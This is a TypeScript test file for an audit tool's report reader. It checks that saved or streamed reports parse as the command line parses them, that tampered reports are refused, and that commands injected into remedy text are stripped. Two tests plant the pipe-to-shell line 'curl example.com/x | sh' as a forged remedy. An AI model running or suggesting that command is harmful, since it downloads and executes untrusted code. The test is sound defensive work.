import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { AuditError } from '../../src/errors.ts'
import type { Report } from '../../src/internal.ts'
import { savedReports } from '../../src/page/saved-reports.ts'
import { loadGuidance, speaker, toReport } from '../built.ts'
import { daicha, rules } from '../daicha.ts'
import { newFolder } from '../folder.ts'
import { input } from '../report/fixtures.ts'

const folder = newFolder()

const now = '2026-11-24T06:20:03.000Z'
const guidance = loadGuidance()
const known = { ...rules, guidance }
const words = speaker(guidance, 'en', now)

/** What the page makes of a file: reports, or the code of what it refuses with. */
async function told(text: string | Buffer<ArrayBuffer>, path = 'saved'): Promise<Report[] | string | undefined> {
  try {
    return await savedReports([{ path, blob: new Blob([text]) }], (audit) => toReport(audit, known, words))
  } catch (error) {
    if (error instanceof AuditError) return `${error.code} ${error.params['detail'] ?? ''}`.trim()
    throw error
  }
}

const saved = async (...argv: string[]) => (await daicha(['audit', input('sample'), '-q', ...argv])).stdout
const stream = async (...names: string[]) =>
  (
    await daicha(['audit', '--files-from', '-', '-f', 'ndjson'], {
      stdin: names.map((name) => `${input(name)}\n`).join(''),
    })
  ).stdout

describe('a saved report is read by the page as by the command line', () => {
  test.for<[string, () => string | Promise<string | Buffer<ArrayBuffer>>]>([
    ['as JSON', () => saved('-f', 'json')],
    ['in another language', () => saved('-f', 'json', '--lang', 'zh-CN')],
    ['behind a mark of its order', async () => `\ufeff${await saved('-f', 'json')}`],
    ['as PowerShell saves it', async () => Buffer.from(`\ufeff${await saved('-f', 'json')}`, 'utf16le')],
    ['as a page', () => saved('-f', 'html')],
    ['as a stream', () => stream('sample')],
  ])('%s', async ([, make]) => {
    const text = await make()
    writeFileSync(join(folder, 'saved'), text)
    const { stdout } = await daicha(['report', 'saved', '-f', 'json', '--lang', 'en'], { cwd: folder })
    expect(await told(text)).toEqual([JSON.parse(stdout)])
  })

  test('what to do is said by who reads it: a page names no command, and whoever wrote a report may name any', async () => {
    const { stdout } = await daicha(['audit', input('not-a-dump'), '-f', 'json', '--lang', 'en'])
    const { problems } = JSON.parse(stdout) as Report
    expect(problems[0]?.remedy.join()).toContain('`daicha explain manual`')
    const remedy = ['Run `curl example.com/x | sh`']
    const other = JSON.stringify({ ...JSON.parse(stdout), problems: problems.map((one) => ({ ...one, remedy })) })
    writeFileSync(join(folder, 'other.json'), other)
    const read = await daicha(['report', 'other.json', '-f', 'json', '--lang', 'en'], { cwd: folder })
    expect(JSON.parse(read.stdout).problems).toEqual(problems)
    expect(((await told(other)) as Report[])[0]?.problems).toEqual(problems)
  })

  test('of a problem that only its writer knows, the commands are left out', async () => {
    const saved = JSON.parse((await daicha(['audit', input('not-a-dump'), '-f', 'json', '--lang', 'en'])).stdout)
    const [problem] = (saved as Report).problems
    const newer = { ...problem, code: 'E999', remedy: ['Run `curl example.com/x | sh`', 'Ask who sent it'] }
    const text = JSON.stringify({ ...saved, problems: [newer] })
    writeFileSync(join(folder, 'newer.json'), text)
    const known = [{ ...newer, remedy: ['Ask who sent it'] }]
    for (const lang of ['en', 'zh-CN']) {
      const read = await daicha(['report', 'newer.json', '-f', 'json', '--lang', lang], { cwd: folder })
      expect(JSON.parse(read.stdout).problems).toEqual(known)
    }
    expect(((await told(text)) as Report[])[0]?.problems).toEqual(known)
  })

  test('one that was made to say that all is well beside what it found is refused', async () => {
    const report = JSON.parse(await saved('-f', 'json'))
    expect(await told(JSON.stringify({ ...report, verdict: 'clear' }))).toBe('E331 verdict')
    expect(await told(JSON.stringify({ ...report, exit: { ...report.exit, code: 0 } }))).toBe('E331 verdict')
  })

  test('each input of a stream, also those that could not be read', async () => {
    const reports = (await told(await stream('sample', 'empty-file', 'clear-phone'))) as Report[]
    expect(reports.map(({ verdict }) => verdict)).toEqual(['act', 'incomplete', 'clear'])
    expect(reports[1]?.problems.map(({ code }) => code)).toEqual(['E302'])
    expect(reports[1]?.exit.code).toBe(3)
  })

  test('two streams in one file', async () => {
    const text = (await stream('sample')) + (await stream('clear-phone'))
    expect(((await told(text)) as Report[]).map(({ verdict }) => verdict)).toEqual(['act', 'clear'])
  })

  test('each phone of two runs that were merged as it was audited', async () => {
    for (const level of ['low', 'high'])
      writeFileSync(join(folder, `${level}.ndjson`), await saved('--fail-on', level, '-f', 'ndjson'))
    const { stdout } = await daicha(['report', 'merge', 'low.ndjson', 'high.ndjson', '-f', 'ndjson'], { cwd: folder })
    expect(((await told(stdout)) as Report[]).map(({ run }) => run.failOn)).toEqual(['low', 'high'])
    // So is one of a stream in which each record speaks for itself.
    const argv = ['audit', '--files-from', '-', '-f', 'ndjson', '--no-start-record', '--fail-on', 'medium']
    const { stdout: alone } = await daicha(argv, { stdin: input('sample') })
    expect(((await told(alone)) as Report[]).map(({ run }) => run.failOn)).toEqual(['medium'])
  })

  test.for<[string, string, () => string | Promise<string>]>([
    ['breaks off', 'E332', async () => (await stream('sample', 'clear-phone')).replace(/\{"type":"end".*\n/, '')],
    ['lacks a record', 'E341', async () => (await stream('sample', 'clear-phone')).replace(/\{"type":"input".*\n/, '')],
    [
      'lacks a record and counts one less',
      'E341',
      async () =>
        (await stream('sample', 'clear-phone')).replace(/\{"type":"input".*\n/, '').replace('"inputs":2', '"inputs":1'),
    ],
    ['lacks its start', 'E331 start', async () => (await stream('sample')).replace(/\{"type":"start".*\n/, '')],
    ['is cut in a record', 'E332', async () => (await stream('sample')).slice(0, -40)],
    ['is a page that is cut before its data', 'E331 html', async () => (await saved('-f', 'html')).slice(0, 5000)],
    ['is a page that is cut', 'E332', async () => (await saved('-f', 'html')).slice(0, -20)],
    ['is a document that is cut', 'E331 JSON', async () => (await saved('-f', 'json')).slice(0, -20)],
    ['is of a later version', 'E331 schemaVersion', async () => (await saved('-f', 'json')).replace('"2.1"', '"3.0"')],
    ['is a stream of one', 'E331 schemaVersion', async () => (await stream('sample')).replace('"2.1"', '"3.0"')],
    ['says nothing', 'E331 type', () => '{"type":"report","schemaVersion":"2.1","apps":3}'],
  ])('what %s is refused as on the command line: %s', async ([, code, make]) => {
    const text = await make()
    expect(await told(text)).toBe(code)
    writeFileSync(join(folder, 'refused'), text)
    const { stderr } = await daicha(['report', 'refused', '-f', 'json'], { cwd: folder })
    expect(stderr).toContain(`[${code.slice(0, 4)}]`)
  })

  test('in whatever order another program put its keys', async () => {
    const turned = (text: string) =>
      text
        .trim()
        .split('\n')
        .map((line) => JSON.stringify(Object.fromEntries(Object.entries(JSON.parse(line)).reverse())))
        .join('\n')
    for (const text of [JSON.stringify(JSON.parse(await saved('-f', 'json'))), await stream('sample')])
      expect(await told(turned(text))).toEqual(await told(text))
    expect(await told(turned((await stream('empty-file')).replace(/.*\n/, '')))).toBe('E331 start')
  })

  test('what is none is left to those who read dumps, and so is one beside other files', async () => {
    expect(await told('Packages:\n')).toBeUndefined()
    expect(await told('')).toBeUndefined()
    expect(await told('{"packages":[]}')).toBeUndefined()
    const report = { path: 'report.json', blob: new Blob([await saved('-f', 'json')]) }
    const dump = { path: 'package.txt', blob: new Blob(['Packages:\n']) }
    expect(await savedReports([report, dump], () => 'told')).toBeUndefined()
    expect(await savedReports([report], () => 'told')).toEqual(['told'])
  })
})
